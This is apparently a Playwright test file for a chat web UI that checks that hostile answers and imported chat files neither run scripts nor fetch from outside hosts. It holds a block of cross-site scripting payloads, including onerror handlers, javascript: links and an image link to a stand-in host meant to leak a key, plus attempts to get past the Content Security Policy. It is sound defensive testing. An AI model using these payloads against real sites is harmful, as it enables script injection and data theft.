"""Hostile answers, hostile files: nothing runs, nothing is fetched."""

from __future__ import annotations

import json

import pytest

from tests.webui.conftest import answered, answering, ask

ATTACKS = r"""
<script>window.hacked = 1</script><img src="https://evil.example/a.png" onerror="window.hacked = 1">
<svg onload="window.hacked = 1"></svg> <iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">
<form action="https://evil.example"><button>Log in</button></form>

![secret](https://evil.example/steal?key=1) ![rel](/page/stats)

[run](javascript:window.hacked=1) [data](data:text/html,<script>opener.hacked=1</script>) [in](#/engine) [up](/metrics)

[good](https://good.example/a?b=c) <https://auto.example/>

| <img src=x onerror="window.hacked=1"> | [x](vbscript:x) |
|---|---|
| $\href{javascript:window.hacked=1}{x}$ | $\includegraphics{https://evil.example/m.png}$ |

$$\htmlStyle{position:fixed;inset:0}{x} \url{https://evil.example} \def\a{\a\a}\a$$

```"><img src=x onerror=window.hacked=1>
</code></pre><script>window.hacked = 1</script>
```

```html
<script>window.hacked = 1</script>
```
"""


def test_hostile_answers_do_nothing(opened, complaints):
    page = opened()
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    answering(page, ATTACKS, pieces=5)
    ask(page, "<img src=x onerror=window.hacked=1> **not bold**")
    answer = answered(page)
    page.wait_for_selector(".math-drawn, .hljs-tag")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert not [url for url in fetched if "evil" in url or "good" in url or "page/stats" in url]
    assert page.is_visible("#composer")
    forbidden = "script, img, svg:not(.katex svg), iframe, style, base, meta, form, input, object"
    assert answer.locator(".markdown").locator(forbidden).count() == 0
    links = answer.locator("a").evaluate_all("all => all.map(a => [a.href, a.rel, a.target])")
    assert {href for href, _, _ in links} == {
        "https://good.example/a?b=c", "https://auto.example/", "https://evil.example/steal?key=1",
    }  # fmt: skip
    assert all("noopener" in rel and target == "_blank" for _, rel, target in links)
    assert page.inner_text(".bubble") == "<img src=x onerror=window.hacked=1> **not bold**"
    assert page.locator(".bubble *").count() == 0
    complaints.clear()  # KaTeX's remarks on strange TeX


def test_the_policy_stops_what_would_slip_through(opened, complaints):
    page = opened()
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'",
        "(() => { const s = document.createElement('script'); s.text = 'window.hacked=1'; document.body.append(s) })()",
        "setTimeout('window.hacked=1', 0)",
    ):
        page.evaluate(f"try {{ {attempt} }} catch (e) {{}}")
    page.evaluate("""() => {
        const image = new Image(); image.src = 'https://evil.example/x.png'; document.body.append(image);
        const box = document.createElement('div');
        try { box.setAttribute('onclick', 'window.hacked=1'); box.click() } catch (e) { }
        return fetch('https://evil.example/').catch(() => 0);
    }""")
    assert page.evaluate("window.hacked") is None
    assert any("Content Security Policy" in text for text in complaints)
    complaints.clear()


@pytest.mark.parametrize(
    "file",
    [
        "not json", "[]", '{"format": "penstock-chats", "version": 1, "chats": [{"title": "x", "nodes": {"a": {}}}]}',
        '{"format": "penstock-chats", "version": 9, "chats": []}',
    ],
)  # fmt: skip
def test_bad_files_are_refused_with_a_reason(opened, file):
    page = opened()
    page.set_input_files(
        "input[type=file]", {"name": "x.json", "mimeType": "application/json", "buffer": file.encode()}
    )
    page.wait_for_selector(".notice.bad")
    assert "cannot be imported" in page.inner_text(".notice.bad")
    assert page.locator(".entry").count() == 0


def test_imported_chats_are_as_harmless_as_answers(opened):
    page = opened()
    bad = "<img src=x onerror=window.hacked=1>"
    nodes = {
        "q": {"parent": None, "role": "user", "content": bad, "created": 1},
        "a": {"parent": "q", "role": "assistant", "content": bad + "[x](javascript:window.hacked=1)", "created": 2},
    }
    chat = {"title": bad, "nodes": nodes, "chosen": {}, "setup": {"model": bad, "params": {"evil": 1}}}
    data = json.dumps({"format": "penstock-chats", "version": 1, "chats": [chat]}).encode()
    page.set_input_files("input[type=file]", {"name": "x.json", "mimeType": "application/json", "buffer": data})
    page.wait_for_selector(".message.assistant")
    assert bad in page.inner_text(".message.assistant") and page.locator("main img, main a[href^=java]").count() == 0
    assert page.evaluate("window.hacked") is None


def test_code_is_copied_and_formulas_are_drawn(opened):
    page = opened()
    answering(page, "So $x^2$:\n\n```python\nprint('hi')\n```\n\n- in a list:\n\n  ```js\n  let a = 1\n  ```\n")
    ask(page, "show me")
    answer = answered(page)
    page.wait_for_selector(".hljs-string")
    page.wait_for_selector(".math-drawn .katex")
    answer.locator(".code-copy").first.click()
    page.wait_for_selector(".code-copy:has-text('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')"
    assert answer.locator(".code-box").count() == 2
    assert page.evaluate("getComputedStyle(document.querySelector('.katex')).fontFamily").startswith("KaTeX_Main")
